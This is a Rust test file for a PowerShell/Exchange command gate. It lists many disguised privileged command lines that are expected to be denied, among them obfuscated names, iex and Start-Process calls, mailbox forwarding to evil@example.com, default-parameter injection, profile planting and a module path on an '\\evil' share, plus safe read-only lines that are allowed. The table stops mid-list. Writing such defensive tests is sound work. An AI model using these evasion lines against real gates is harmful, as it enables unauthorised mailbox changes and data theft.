//! The bypass suite: disguised privileged invocations are never allowed under the shipped
//! policies, and everyday read-only lines are. Each case names the resolution rule it exercises.

#![allow(
    clippy::panic,
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests fail loudly"
)]

use std::collections::HashSet;
use std::path::Path;

use jitsh::catalog::Catalog;
use jitsh::gate::LineDecision;
use jitsh::gate::{check_line, GateContext};
use jitsh::invocation::TaskKind;
use jitsh::policy::{load_dir, Effect, PolicySet, PolicySource};

/// What a case expects of the line's decision.
#[derive(Debug, Clone, Copy)]
enum Want {
    /// Allowed to run with standing access.
    Allow,
    /// Must not run without a token (approval) or at all (deny): anything but allow.
    NotAllow,
    /// Must be denied outright (dynamic code, code-execution cmdlets, parse errors).
    Deny,
}
use Want::*;

const CASES: &[(&str, Want, &str)] = &[
    // --- the plain privileged task and its spellings -----------------------------------------
    (
        "New-MoveRequest -Identity rob@contoso.com -TargetDatabase DB02",
        NotAllow,
        "plain",
    ),
    (
        "new-moverequest -identity rob@contoso.com",
        NotAllow,
        "case",
    ),
    (
        "NEW-MOVEREQUEST -IDENTITY rob@contoso.com",
        NotAllow,
        "case",
    ),
    (
        "Ne`w-MoveRequest -Identity rob@contoso.com",
        NotAllow,
        "backtick escape in name",
    ),
    (
        "N`e`w`-`M`o`v`e`R`e`q`u`e`s`t rob@contoso.com",
        NotAllow,
        "backticks everywhere",
    ),
    (
        "Exchange\\New-MoveRequest -Identity rob",
        NotAllow,
        "module qualifier",
    ),
    (
        "ExchangePowerShell\\New-MoveRequest -Identity rob",
        NotAllow,
        "module qualifier",
    ),
    (
        "Whatever\\New-MoveRequest -Identity rob",
        NotAllow,
        "unknown module qualifier",
    ),
    (
        "& New-MoveRequest -Identity rob",
        NotAllow,
        "call operator with a name",
    ),
    (
        "& 'New-MoveRequest' -Identity rob",
        NotAllow,
        "call operator with a literal",
    ),
    (
        "& \"New-MoveRequest\" -Identity rob",
        NotAllow,
        "call operator with a double-quoted literal",
    ),
    (
        ". New-MoveRequest -Identity rob",
        NotAllow,
        "dot-source with a name",
    ),
    (
        "New\u{2013}MoveRequest -Identity rob",
        NotAllow,
        "en dash inside the name",
    ),
    (
        "New-MoveRequest \u{2013}Identity rob",
        NotAllow,
        "en dash parameter",
    ),
    (
        "New-MoveRequest \u{2014}Identity rob",
        NotAllow,
        "em dash parameter",
    ),
    (
        "& \u{2018}New-MoveRequest\u{2019} -Identity rob",
        NotAllow,
        "smart single quotes",
    ),
    (
        "& \u{201c}New-MoveRequest\u{201d} -Identity rob",
        NotAllow,
        "smart double quotes",
    ),
    (
        "New-MoveRequest -Ident rob -TargetDatabase DB02",
        NotAllow,
        "abbreviated parameter",
    ),
    (
        "New-MoveRequest -Identity:rob",
        NotAllow,
        "colon-bound parameter",
    ),
    ("New-MoveRequest rob", NotAllow, "positional argument"),
    // --- dynamic invocation: never analysable, denied ------------------------------------------
    (
        "& ('New-'+'MoveRequest') -Identity rob",
        Deny,
        "computed command name",
    ),
    (
        "& (\"New-\" + \"MoveRequest\") rob",
        Deny,
        "computed command name",
    ),
    ("& $cmd -Identity rob", Deny, "variable command name"),
    (
        "$c = 'New-MoveRequest'; & $c -Identity rob",
        Deny,
        "variable command name",
    ),
    (". $path", Deny, "dot-sourcing a variable path"),
    (
        "& $env:COMSPEC /c whoami",
        Deny,
        "environment variable command",
    ),
    (
        "&(gcm New-Move*) -Identity rob",
        Deny,
        "command found by wildcard at run time",
    ),
    (
        "[scriptblock]::Create('New-MoveRequest rob').Invoke()",
        Deny,
        ".NET: ScriptBlock.Create",
    ),
    (
        "$sb = { New-MoveRequest rob }; $sb.Invoke()",
        Deny,
        ".NET: Invoke",
    ),
    (
        "{ New-MoveRequest rob }.Invoke()",
        Deny,
        ".NET: Invoke on a literal block",
    ),
    (
        "$sb = { New-MoveRequest rob }; & $sb",
        Deny,
        "invoking a script block variable",
    ),
    (
        "[System.Diagnostics.Process]::Start('cmd.exe')",
        Deny,
        ".NET: Process.Start",
    ),
    (
        "[Reflection.Assembly]::LoadFile('C:\\x.dll')",
        Deny,
        ".NET: assembly load",
    ),
    (
        "$x.InvokeScript('New-MoveRequest rob')",
        Deny,
        ".NET: InvokeScript",
    ),
    (
        "$ExecutionContext.InvokeCommand.InvokeScript('New-MoveRequest')",
        Deny,
        ".NET: InvokeCommand",
    ),
    // --- code-execution cmdlets and their aliases ----------------------------------------------
    (
        "Invoke-Expression 'New-MoveRequest rob'",
        Deny,
        "Invoke-Expression",
    ),
    ("iex 'New-MoveRequest rob'", Deny, "alias iex"),
    (
        "IEX('New-MoveRequest rob')",
        Deny,
        "alias iex, grouped argument",
    ),
    (
        "'New-MoveRequest rob' | iex",
        Deny,
        "iex at the end of a pipeline",
    ),
    (
        "Invoke-Command -ScriptBlock { Get-Mailbox }",
        Deny,
        "Invoke-Command",
    ),
    ("icm { Get-Mailbox }", Deny, "alias icm"),
    (
        "Start-Process pwsh -ArgumentList '-c New-MoveRequest rob'",
        Deny,
        "Start-Process",
    ),
    ("saps pwsh", Deny, "alias saps"),
    ("start pwsh", Deny, "alias start"),
    (
        "Add-Type -TypeDefinition 'public class X {}'",
        Deny,
        "Add-Type",
    ),
    (
        "Microsoft.PowerShell.Utility\\Invoke-Expression 'x'",
        Deny,
        "module-qualified iex",
    ),
    (
        "inv`oke-ex`pression 'x'",
        Deny,
        "backticks in a denied name",
    ),
    (
        "inv`oke-exp`ression 'x'",
        NotAllow,
        "backtick-r is a carriage return: an unknown name, never allowed",
    ),
    // --- nesting: every invocation inside code is gated -----------------------------------------
    (
        "Get-Mailbox | ForEach-Object { New-MoveRequest -Identity $_.Alias }",
        NotAllow,
        "ForEach-Object block",
    ),
    (
        "Get-Mailbox | % { New-MoveRequest $_.Alias }",
        NotAllow,
        "alias % block",
    ),
    (
        "Get-Mailbox | foreach { New-MoveRequest $_.Alias }",
        NotAllow,
        "alias foreach block",
    ),
    (
        "Get-Mailbox | ? { New-MoveRequest x; $true }",
        NotAllow,
        "alias ? block",
    ),
    (
        "Get-Mailbox | Where-Object -FilterScript { Remove-Mailbox x }",
        NotAllow,
        "named FilterScript",
    ),
    (
        "Get-Mailbox | Where-Object { $_ } | % -Process { Remove-Mailbox $_ -Confirm:$false }",
        NotAllow,
        "named -Process",
    ),
    (
        "Write-Host \"$(New-MoveRequest -Identity rob)\"",
        NotAllow,
        "string expansion",
    ),
    (
        "Write-Host \"a $(Write-Host \"b $(Remove-Mailbox rob)\")\"",
        NotAllow,
        "nested string expansion",
    ),
    (
        "Write-Host @\"\n$(New-MoveRequest rob)\n\"@",
        NotAllow,
        "here-string expansion",
    ),
    ("$(New-MoveRequest rob)", NotAllow, "subexpression"),
    ("(New-MoveRequest rob)", NotAllow, "grouping"),
    ("@(New-MoveRequest rob)", NotAllow, "array subexpression"),
    (
        "$x = @{ a = (New-MoveRequest rob) }",
        NotAllow,
        "hashtable value",
    ),
    (
        "$list = 1, (Remove-Mailbox rob), 3",
        NotAllow,
        "array element",
    ),
    (
        "Get-Mailbox -Identity (New-MoveRequest rob)",
        NotAllow,
        "argument expression",
    ),
    (
        "Get-Mailbox -Identity:$(New-MoveRequest rob)",
        NotAllow,
        "colon-bound subexpression",
    ),
    (
        "Get-Mailbox -Filter \"Name -like '$(New-MoveRequest rob)'\"",
        NotAllow,
        "expansion inside a filter string",
    ),
    (
        "foreach ($m in Get-Mailbox) { New-MoveRequest $m.Alias }",
        NotAllow,
        "foreach body",
    ),
    (
        "foreach ($m in (Remove-Mailbox x)) { }",
        NotAllow,
        "foreach collection",
    ),
    ("if ($true) { Remove-Mailbox rob }", NotAllow, "if body"),
    ("if (Remove-Mailbox rob) { }", NotAllow, "if condition"),
    (
        "if ($false) { } else { Remove-Mailbox rob }",
        NotAllow,
        "else body",
    ),
    (
        "while ($true) { Remove-Mailbox rob; break }",
        NotAllow,
        "while body",
    ),
    (
        "function f { New-MoveRequest rob }; f",
        NotAllow,
        "function body",
    ),
    (
        "Get-Mailbox | Set-Mailbox -DisplayName { New-MoveRequest rob }",
        NotAllow,
        "delay-bind script block",
    ),
    (
        "Get-Mailbox | Select-Object @{n='x'; e={ Remove-Mailbox $_ }}",
        NotAllow,
        "calculated property block",
    ),
    (
        "Get-Mailbox | Sort-Object { Remove-Mailbox $_ }",
        NotAllow,
        "sort key block",
    ),
    (
        "Get-Mailbox -Filter { Name -like 'a*' } | % { Remove-Mailbox $_ }",
        NotAllow,
        "filter data then code",
    ),
    (
        "Frobnicate-Thing { New-MoveRequest rob }",
        NotAllow,
        "block given to an unknown command",
    ),
    (
        "Get-Mailbox -NoSuchParam { New-MoveRequest rob }",
        NotAllow,
        "block bound to an unknown parameter",
    ),
    // --- statement separators and line structure ------------------------------------------------
    ("Get-Mailbox; New-MoveRequest rob", NotAllow, "semicolon"),
    ("Get-Mailbox && New-MoveRequest rob", NotAllow, "&&"),
    ("Get-Mailbox || New-MoveRequest rob", NotAllow, "||"),
    ("Get-Mailbox\nNew-MoveRequest rob", NotAllow, "newline"),
    (
        "Get-Mailbox `\n; New-MoveRequest rob",
        NotAllow,
        "line continuation",
    ),
    (
        "Get-Mailbox <# comment #> ; New-MoveRequest rob",
        NotAllow,
        "block comment between",
    ),
    (
        "Get-Mailbox | Remove-Mailbox",
        NotAllow,
        "pipeline into a privileged cmdlet",
    ),
    (
        "Get-Mailbox | Set-Mailbox -ForwardingSmtpAddress evil@example.com",
        NotAllow,
        "pipeline forwarding",
    ),
    (
        "Get-Mailbox 2>&1 | Remove-Mailbox -Confirm:$false",
        NotAllow,
        "redirection then pipeline",
    ),
    // --- parameter-level rules -----------------------------------------------------------------
    (
        "Set-Mailbox rob -ForwardingSmtpAddress evil@example.com",
        NotAllow,
        "forwarding parameter",
    ),
    (
        "Set-Mailbox rob -ForwardingSmtp evil@example.com",
        NotAllow,
        "abbreviated forwarding parameter",
    ),
    (
        "Set-Mailbox rob -forwardingsmtpaddress evil@example.com",
        NotAllow,
        "lower-case forwarding parameter",
    ),
    (
        "Set-Mailbox rob -Forw evil@example.com",
        NotAllow,
        "ambiguous abbreviation",
    ),
    (
        "Set-Mailbox rob -ForwardingSmtpAddress:evil@example.com",
        NotAllow,
        "colon-bound forwarding",
    ),
    (
        "Set-Mailbox rob \u{2013}ForwardingSmtpAddress evil@example.com",
        NotAllow,
        "en dash forwarding",
    ),
    (
        "$p = @{Identity='rob'; ForwardingSmtpAddress='evil@example.com'}; Set-Mailbox @p",
        NotAllow,
        "splatted hashtable",
    ),
    (
        "Set-Mailbox @PSBoundParameters",
        NotAllow,
        "splatted unknown variable",
    ),
    ("Set-Mailbox @args", NotAllow, "splatted args"),
    // --- unparseable input is denied -----------------------------------------------------------
    ("Get-Mailbox \"unclosed", Deny, "unclosed string"),
    ("Get-Mailbox | % { Remove-Mailbox x", Deny, "unclosed block"),
    ("Get-Mailbox |", Deny, "trailing pipe"),
    ("Get-Mailbox )", Deny, "stray paren"),
    // --- everyday read-only lines are allowed --------------------------------------------------
    ("Get-Mailbox", Allow, "bare read"),
    (
        "Get-Mailbox -Identity rob@contoso.com",
        Allow,
        "read with identity",
    ),
    (
        "get-mailbox rob@contoso.com | fl",
        Allow,
        "positional and alias fl",
    ),
    (
        "Get-Mailbox -ResultSize Unlimited | Select-Object Name,Alias,Database",
        Allow,
        "select",
    ),
    (
        "Get-Mailbox | ft Name, PrimarySmtpAddress -AutoSize",
        Allow,
        "alias ft",
    ),
    (
        "Get-Mailbox | Sort-Object Name | Format-Table",
        Allow,
        "sort and format",
    ),
    ("Get-Mailbox | Measure-Object", Allow, "measure"),
    (
        "Get-Mailbox | ? {$_.ArchiveStatus -eq 'Active'}",
        Allow,
        "where block with comparisons",
    ),
    (
        "Get-Mailbox | Where-Object { $_.Name -like 'a*' } | % { $_.Alias }",
        Allow,
        "member access in blocks",
    ),
    (
        "Get-Mailbox -Filter {Name -like 'a*'}",
        Allow,
        "OPATH filter block is data",
    ),
    (
        "Get-Recipient -Filter \"RecipientType -eq 'UserMailbox'\"",
        Allow,
        "OPATH filter string",
    ),
    (
        "Get-MoveRequest | Get-MoveRequestStatistics",
        Allow,
        "pipeline of reads",
    ),
    (
        "Get-MailboxStatistics -Identity rob | Format-List",
        Allow,
        "statistics",
    ),
    (
        "Get-MessageTrace -StartDate (Get-Date).AddDays(-7) -EndDate (Get-Date)",
        Allow,
        "safe .NET method",
    ),
    (
        "(Get-Date).AddDays(-7).ToString('yyyy-MM-dd')",
        Allow,
        "chained safe methods",
    ),
    (
        "$m = Get-Mailbox rob; $m.DisplayName",
        Allow,
        "assignment and member access",
    ),
    (
        "$since = [datetime]::Parse('2026-01-01'); Get-MessageTrace -StartDate $since",
        Allow,
        "safe static method",
    ),
    (
        "Get-Mailbox -Identity rob -ErrorAction SilentlyContinue",
        Allow,
        "common parameter",
    ),
    (
        "Get-Mailbox | Select-Object -First 5 # Remove-Mailbox rob",
        Allow,
        "comment is not code",
    ),
    (
        "Get-Mailbox <# ; Remove-Mailbox rob #>",
        Allow,
        "block comment is not code",
    ),
    (
        "Write-Host 'Remove-Mailbox rob'",
        Allow,
        "single-quoted text is not code",
    ),
    (
        "Write-Host \"Remove-Mailbox $name\"",
        Allow,
        "expansion of a variable is not code",
    ),
    ("Test-ServiceHealth", Allow, "Test-* read"),
    (
        "Get-TransportRule | Select-Object Name, State",
        Allow,
        "transport rules read",
    ),
    ("", Allow, "empty line"),
    ("# just a comment", Allow, "comment line"),
    // --- definitions and assignments that change the session ------------------------------
    (
        "function Get-Mailbox { param($Filter) Get-Recipient | Sort-Object -Property $Filter }; Get-Mailbox -Filter { Remove-Mailbox rob }",
        Deny,
        "a function shadowing a cmdlet turns its OPATH data block into code",
    ),
    (
        "function global:Get-Mailbox { param($Filter) Sort-Object -Property $Filter }",
        Deny,
        "a shadowing function outlives the line",
    ),
    (
        "filter fl { $_ }",
        Deny,
        "a filter shadowing an alias",
    ),
    (
        "function prompt { 'x' }",
        Deny,
        "a host hook runs after every line",
    ),
    (
        "${function:Get-Mailbox} = 'Remove-Mailbox rob'; Get-Mailbox",
        Deny,
        "function drive: a function made from text",
    ),
    (
        "$alias:fl = 'Remove-Mailbox'; 'rob' | fl",
        Deny,
        "alias drive: re-pointing an allowed alias",
    ),
    (
        "${alias:fl} = 'Remove-Mailbox'; 'rob' | fl",
        Deny,
        "alias drive, braced",
    ),
    (
        "$PSDefaultParameterValues['Set-Mailbox:ForwardingSmtpAddress'] = 'evil@example.com'",
        Deny,
        "default parameter values add a forwarding address to later Set-Mailbox calls",
    ),
    (
        "$PSDefaultParameterValues = @{ 'Set-Mailbox:ForwardingSmtpAddress' = 'evil@example.com' }",
        Deny,
        "default parameter values, whole table",
    ),
    (
        "$h = Get-Variable PSDefaultParameterValues -ValueOnly; $h['Set-Mailbox:ForwardingSmtpAddress'] = 'e@x.com'",
        Deny,
        "default parameter values through another variable",
    ),
    (
        "foreach ($PSDefaultParameterValues in , @{ 'Set-Mailbox:ForwardingSmtpAddress' = 'e@x.com' }) { }",
        Deny,
        "default parameter values as a loop variable",
    ),
    (
        "${C:\\Users\\admin\\Documents\\profile.ps1} = 'Remove-Mailbox rob'",
        Deny,
        "file written through a variable",
    ),
    (
        "$x = ${C:\\secrets.txt}",
        Deny,
        "file read through a variable",
    ),
    (
        "$env:PSModulePath = '\\\\evil\\share'",
        Deny,
        "module path: later auto-loading runs a planted module",
    ),
    (
        "function Get-MyReport { Get-Mailbox | Select-Object Name }; Get-MyReport",
        Allow,
        "a new read-only helper function",
    ),
    (
        "$ErrorActionPreference = 'Stop'; Write-Host $env:TEMP",
        Allow,
        "preference variables and environment reads",
    ),
    // --- redirections are Out-File ---------------------------------------------------------
    (
        "Write-Output 'Remove-Mailbox rob' > $profile",
        NotAllow,
        "redirection plants a profile script",
    ),
    (
        "Get-Mailbox > C:\\Windows\\System32\\x.ps1",
        NotAllow,
        "redirection to a file outside the reports folder",
    ),
    (
        "Get-Mailbox *>> C:\\Reports\\..\\x.ps1",
        NotAllow,
        "appending redirection of all streams, path escaping the reports folder",
    ),
    (
        "'x' | Write-Output 3> x.txt",
        NotAllow,
        "redirection of another stream",
    ),
    (
        "Get-Mailbox | Format-List > C:\\Reports\\mailboxes.txt",
        Allow,
        "text report into the reports folder",
    ),
    (
        "Get-Mailbox 2>&1 > $null",
        Allow,
        "stream merge and discarding write no file",
    ),
    // --- comments that are statements -------------------------------------------------------
    ("#requires -Modules EvilModule", Deny, "#requires can load a module"),
    (
        "Get-Mailbox #Requires -RunAsAdministrator",
        Deny,
        "#requires after a command",
    ),
    ("Get-Mailbox # requires nothing", Allow, "an ordinary comment"),
    // --- script blocks from outside the line reaching code-running parameters --------------
    (
        "Get-Mailbox rob | Sort-Object -Property ${function:Remove-Mailbox}",
        Deny,
        "a proxy function's body as a sort key",
    ),
    (
        "Get-Mailbox rob | Sort-Object (Get-Command Remove-Mailbox).ScriptBlock",
        Deny,
        "a command's script block as a positional sort key",
    ),
    (
        "$sb = (Get-Command Remove-Mailbox).ScriptBlock; Get-Mailbox rob | Select-Object @{ n = 'x'; e = $sb }",
        Deny,
        "calculated property expression from a variable",
    ),
    (
        "$sb = (Get-Command Remove-Mailbox).ScriptBlock; Get-Mailbox rob | Get-MailboxStatistics -Identity $sb",
        Deny,
        "delay-bind parameter given a script block variable",
    ),
    (
        "$sb = (gcm Remove-Mailbox).ScriptBlock; Get-Mailbox rob | Format-Table -GroupBy $sb",
        Deny,
        "format grouping expression from a variable",
    ),
    (
        "$sb = (gcm Remove-Mailbox).ScriptBlock; 'rob' -replace 'r', $sb",
        Deny,
        "-replace with a script block replacement",
    ),
    (
        "$sb = (gcm Remove-Mailbox).ScriptBlock; 'rob' -split $sb",
        Deny,
        "-split with a script block predicate",
    ),
    (
        "$sb = (gcm Remove-Mailbox).ScriptBlock; switch ('rob') { $sb { 1 } }",
        Deny,
        "switch pattern from a variable",
    ),
    (
        "Get-Mailbox | Select-Object Name, @{ n = 'Size'; e = { $_.ProhibitSendQuota } } | Sort-Object Size -Descending",
        Allow,
        "literal calculated properties",
    ),
    (
        "Get-Mailbox | Get-MailboxStatistics -Identity { $_.Alias }",
        Allow,
        "literal delay-bind block",
    ),
    (
        "switch ('a') { 'a' { 1 } { $_ -eq 'b' } { 2 } default { 3 } }; 'a,b' -split ','",
        Allow,
        "literal switch patterns and split",
    ),
    (
        "$sb = (gcm Remove-Mailbox).ScriptBlock; $p = @{ Property = $sb }; Get-Mailbox | Sort-Object @p",
        Deny,
        "splatted property expression",
    ),
    (
        "$sb = (gcm Remove-Mailbox).ScriptBlock; $p = @{ FilterScript = $sb }; Get-Mailbox | Where-Object @p",
        Deny,
        "splatted script block parameter",
    ),
    (
        "$sb = (gcm Remove-Mailbox).ScriptBlock; $p = @{ Identity = $sb }; Get-Mailbox | Get-MailboxStatistics @p",
        Deny,
        "splatted delay-bind value",
    ),
    (
        "Get-Mailbox | Sort-Object @PSBoundParameters",
        Deny,
        "unknown splat into a command with code-running parameters",
    ),
    (
        "$sb = (gcm Remove-Mailbox).ScriptBlock; Get-Mailbox | Where-Object $sb",
        Deny,
        "positional argument the binder gives to -FilterScript by type",
    ),
    (
        "$sb = (gcm Remove-Mailbox).ScriptBlock; Get-Mailbox rob | New-TimeSpan -Start $sb",
        Deny,
        "delay-bind into a command without metadata",
    ),
    (
        "$p = @{ Identity = 'rob' }; Get-Mailbox @p | Sort-Object Name",
        Allow,
        "literal splat into a read",
    ),
    (
        "([regex]'r').Replace('rob', (Get-Command Remove-Mailbox).ScriptBlock)",
        Deny,
        "a safe-listed method whose delegate overload runs a script block argument",
    ),
    (
        "Add-Member -InputObject $o -MemberType ScriptMethod -Name Trim -Value { 1 } -Force",
        Deny,
        "a script method makes a later safe-listed call run code",
    ),
    (
        "$o | Add-Member ScriptProperty Count { 1 }",
        Deny,
        "a script property added positionally",
    ),
    (
        "Update-TypeData -TypeName System.String -MemberType ScriptMethod -MemberName Trim -Value { 1 }",
        Deny,
        "type data attaches code to every string",
    ),
    (
        "Update-FormatData -PrependPath C:\\x.ps1xml",
        Deny,
        "format data runs code whenever objects are printed",
    ),
    (
        "'a<b'.Replace('<', '_')",
        Allow,
        "Replace on a string literal is String.Replace",
    ),
    (
        "$t = 'a<b'; $t.Replace('<', '_')",
        Allow,
        "Replace on a variable assigned only a string in the line is String.Replace",
    ),
    (
        "$t = Get-Item C:\\a.txt; $t.Replace('C:\\b.txt', $null)",
        Deny,
        "Replace on a variable holding a command's output may be FileInfo.Replace",
    ),
    (
        "$t = 'a'; $t = Get-Item C:\\a.txt; $t.Replace('C:\\b.txt', $null)",
        Deny,
        "a variable written twice has no certain type",
    ),
    (
        "[IO.FileInfo]$t = 'C:\\a.txt'",
        Deny,
        "a type constraint to a file type is a conversion the shipped policies refuse",
    ),
    (
        "function Get-Mai`lbox { param($Filter) 1 }",
        Deny,
        "backtick escape in a shadowing function name",
    ),
    ("filter `F`l { $_ }", Deny, "backticks in a shadowing filter name"),
    (
        "Write-Output @{ 'Set-Mailbox:ForwardingSmtpAddress' = 'e@x.com' } -PipelineVariable PSDefaultParameterValues | Get-Mailbox",
        Deny,
        "default parameter values set by a common parameter",
    ),
    (
        "Get-Mailbox -OutVariable mbx -ErrorVariable +err",
        Allow,
        "ordinary output variables",
    ),
    // --- arguments that may yield a script block are code ----------------------------------
    (
        "Format-Custom -InputObject $m -Property (Get-Command Remove-Mailbox).ScriptBlock",
        Deny,
        "computed property expression of Format-Custom",
    ),
    (
        "$m = Get-Mailbox rob; Format-Custom -InputObject $m -Property $sb",
        Deny,
        "property expression from a variable",
    ),
    (
        "fc -InputObject $m $sb",
        Deny,
        "positional property expression through an alias",
    ),
    (
        "Format-Custom -InputObject $m -GroupBy @{ e = $sb }",
        Deny,
        "group-by expression in a hashtable",
    ),
    (
        "Get-Mailbox | Format-Custom -Property Name, Alias -Depth 2",
        Allow,
        "literal Format-Custom properties",
    ),
    (
        "Get-Mailbox | Format-Custom -Property Name, @{ n = 'A'; e = { $_.Alias } }",
        Allow,
        "literal calculated property",
    ),
    (
        "Get-Mailbox | Out-Report -Title $t",
        Deny,
        "command without metadata given a computed argument",
    ),
    ("Out-Report $sb", Deny, "positional computed argument of an unknown command"),
    (
        "Get-Mailbox | Add-Member -MemberType ScriptMethod -Name Go -Value $sb",
        Deny,
        "script method from a computed value",
    ),
    (
        "Register-EngineEvent PowerShell.OnIdle -Action { Get-Mailbox }",
        Deny,
        "event action kept for later",
    ),
    (
        "Set-PSBreakpoint -Command Get-Mailbox -Action { Remove-Mailbox rob -Confirm:$false }",
        Deny,
        "breakpoint action kept for later",
    ),
    // --- a token ends at its closing quote or bracket (PowerShell's GetCommandArgument) -------
    (
        "Get-Mailbox | Where-Object -Property 'Name'-FilterScript:$sb",
        Deny,
        "parameter glued after a single-quoted string",
    ),
    (
        "Get-Mailbox | Where-Object -Property \"Name\"-FilterScript $sb",
        Deny,
        "parameter glued after a double-quoted string",
    ),
    (
        "Get-Mailbox | Where-Object -Property $(1)-FilterScript $sb",
        Deny,
        "parameter glued after a subexpression",
    ),
    (
        "Get-Mailbox | Where-Object -Property (1)-FilterScript $sb",
        Deny,
        "parameter glued after parentheses",
    ),
    (
        "Get-Mailbox | Where-Object -Property @('a')-FilterScript $sb",
        Deny,
        "parameter glued after an array subexpression",
    ),
    (
        "Get-Mailbox | Where-Object -Property $x.Name-FilterScript $sb",
        Deny,
        "parameter glued after a member access",
    ),
    (
        "Get-Mailbox | Where-Object -Property @'\nName\n'@-FilterScript $sb",
        Deny,
        "parameter glued after a here-string",
    ),
    (
        "$ExecutionContext.InvokeCommand | ForEach-Object 'x'-MemberName:InvokeScript -ArgumentList 'Remove-Mailbox bob'",
        Deny,
        "ForEach-Object -MemberName glued after a string",
    ),
    (
        "Get-Mailbox | ForEach-Object -Begin 'x'-MemberName Delete",
        Deny,
        "ForEach-Object -MemberName glued after a string argument",
    ),
    (
        "Get-Mailbox 'bob'--% | Remove-Mailbox bob",
        Deny,
        "stop-parsing glued after a string",
    ),
    (
        "Get-Mailbox -Identity 'bob'>C:\\Windows\\x.ps1",
        NotAllow,
        "redirection glued after a string",
    ),
    // --- comments and here-strings glued to a token in input that spans lines ----------------
    (
        "Get-Mailbox 'a'#'\nRemove-Mailbox bob\n#'",
        NotAllow,
        "line comment glued after a string hides nothing",
    ),
    (
        "Get-Mailbox \"a\"#\"\nRemove-Mailbox bob\n#\"",
        NotAllow,
        "line comment glued after a double-quoted string",
    ),
    (
        "Get-Mailbox $(1)#'\nRemove-Mailbox bob\n#'",
        NotAllow,
        "line comment glued after a subexpression",
    ),
    (
        "Get-Mailbox (1)#'\nRemove-Mailbox bob\n#'",
        NotAllow,
        "line comment glued after parentheses",
    ),
    (
        "Get-Mailbox a<#\nRemove-Mailbox bob\n#>",
        NotAllow,
        "`<#` inside a word opens no comment",
    ),
    (
        "Get-Mailbox 5<#\nRemove-Mailbox bob\n#>",
        NotAllow,
        "`<#` after a number glued into a word opens no comment",
    ),
    (
        "Get-Mailbox<#\nRemove-Mailbox bob\n#>",
        NotAllow,
        "`<#` inside a command name opens no comment",
    ),
    (
        "Get-Mailbox -Identity<#\nRemove-Mailbox bob\n#>",
        NotAllow,
        "`<#` glued to a parameter name",
    ),
    (
        "Get-Mailbox 'a'@'\n'@\nRemove-Mailbox bob",
        NotAllow,
        "here-string glued after a string, then a command",
    ),
    (
        "Get-Mailbox 'a'@\"\n\"@\nRemove-Mailbox bob",
        NotAllow,
        "expandable here-string glued after a string, then a command",
    ),
    // --- a backtick before white space is white space (Tokenizer.NextToken) ----------------
    (
        "Get-Mailbox | Where-Object ` -FilterScript $sb",
        Deny,
        "backtick-space before a parameter",
    ),
    (
        "Get-Mailbox | Where-Object `\t-FilterScript $sb",
        Deny,
        "backtick-tab before a parameter",
    ),
    (
        "Get-Mailbox | Where-Object `\u{a0}-FilterScript $sb",
        Deny,
        "backtick-NBSP before a parameter",
    ),
    (
        "Get-Mailbox | Where-Object `\u{2003}-FilterScript $sb",
        Deny,
        "backtick-em-space before a parameter",
    ),
    (
        "Get-Mailbox | Where-Object `\u{3000}-FilterScript $sb",
        Deny,
        "backtick-ideographic-space before a parameter",
    ),
    (
        "Get-Mailbox ` ; Remove-Mailbox bob",
        NotAllow,
        "backtick-space before a statement separator",
    ),    // --- control and invisible characters in or around a name -------------------------------
    ("Remove-Mailbox\u{0} bob", Deny, "NUL after a command name"),
    ("Remove-Mailbox\u{0}", Deny, "NUL ending the line"),
    ("Get-MailboxAuditBypassAssociation\u{1}", Deny, "C0 control after a name"),
    ("Get-MailboxAuditBypassAssociation\u{7f}", Deny, "DEL after a name"),
    ("Get-MailboxAuditBypassAssociation\u{9b}", Deny, "C1 control after a name"),
    ("\u{200b}Get-MailboxAuditBypassAssociation", Deny, "zero-width space before a name"),
    ("Get-MailboxAuditBypassAssociation\u{200d}", Deny, "zero-width joiner after a name"),
    ("Get-Mailbox\u{feff}AuditBypassAssociation", Deny, "BOM inside a name"),
    ("Get-MailboxAuditBypassAssociation\u{2060}", Deny, "word joiner after a name"),
    ("Get-MailboxAuditBypassAssociation\u{202e}", Deny, "direction override after a name"),
    ("Get-MailboxAuditBypassAssociation\u{ad}", Deny, "soft hyphen after a name"),
    ("Get-MailboxAuditBypassAssociation`0", Deny, "escaped NUL in a name"),
    ("Get-MailboxAuditBypassAssociation`a", Deny, "escaped bell in a name"),
    ("Get-MailboxAuditBypassAssociation`u{200B}", Deny, "escaped zero-width space in a name"),
    ("& \"Get-MailboxAuditBypassAssociation`0\"", Deny, "escaped NUL in a quoted name"),
    ("& \"Remove-Mailbox`u{200B}\" bob", Deny, "escaped format character in a quoted name"),
    ("Get-MailboxAuditBypassAssociatio`u{6e}", NotAllow, "`u{} escape decoded in a name"),
    ("Get-MailboxAuditBypassAssociation\u{85}", NotAllow, "NEL is white space to PowerShell"),
    ("Get-MailboxAuditBypassAssociation\u{a0}", NotAllow, "NBSP is white space to PowerShell"),
    ("Get-MailboxAuditBypassAssociation\u{2028}", NotAllow, "line separator is white space"),
    ("Get-MailboxAuditBypassAssociation\u{b}", NotAllow, "vertical tab is white space"),
    ("Set-Mailbox bob -Forwarding\u{200b}SmtpAddress x", Deny, "format character in a parameter"),
    ("Set-Mailbox bob -Forwarding`u{53}mtpAddress x", Deny, "escape in a parameter name"),
    ("Get-Mailbox bob\u{0}-Identity x", Deny, "NUL between tokens"),
    ("Get-Ma\u{131}lboxAuditBypassAssociation", Deny, "dotless i matches `i` in PowerShell's lookup"),
    ("Remove-Mailbox bob; Get-MailboxAuditBypa\u{17f}\u{17f}Association", Deny, "long s matches `s`"),
    ("& 'Get-Ma\u{131}lboxAuditBypassAssociation'", Deny, "dotless i in a quoted name"),
    ("Get-Mailbox | ForEach-Object -ArgumentL\u{131}st x -MemberName Delete", Deny, "dotless i in a parameter"),
    ("Get-Mailbox -Identity \u{212a}elvin", Allow, "the Kelvin sign in an argument is data"),    // --- stop-parsing `--%`, recognised by its value; its tail ends at `|`, `||`, `&&` -------
    ("Write-Output --% 'x | Remove-Mailbox bob #'", Deny, "plain stop-parsing"),
    ("Write-Output `--% 'x | Remove-Mailbox bob #'", Deny, "escaped stop-parsing"),
    ("Write-Output -`-% 'x | Remove-Mailbox bob #'", Deny, "stop-parsing with an escaped dash"),
    ("Write-Output '--%' 'x | Remove-Mailbox bob #'", Deny, "single-quoted stop-parsing"),
    ("Write-Output \"--%\" 'x | Remove-Mailbox bob #'", Deny, "double-quoted stop-parsing"),
    ("Write-Output \"-`-%\" 'x && Remove-Mailbox bob #'", Deny, "escaped inside quotes"),
    ("Write-Output @'\n--%\n'@ 'x || Remove-Mailbox bob #'", Deny, "here-string stop-parsing"),
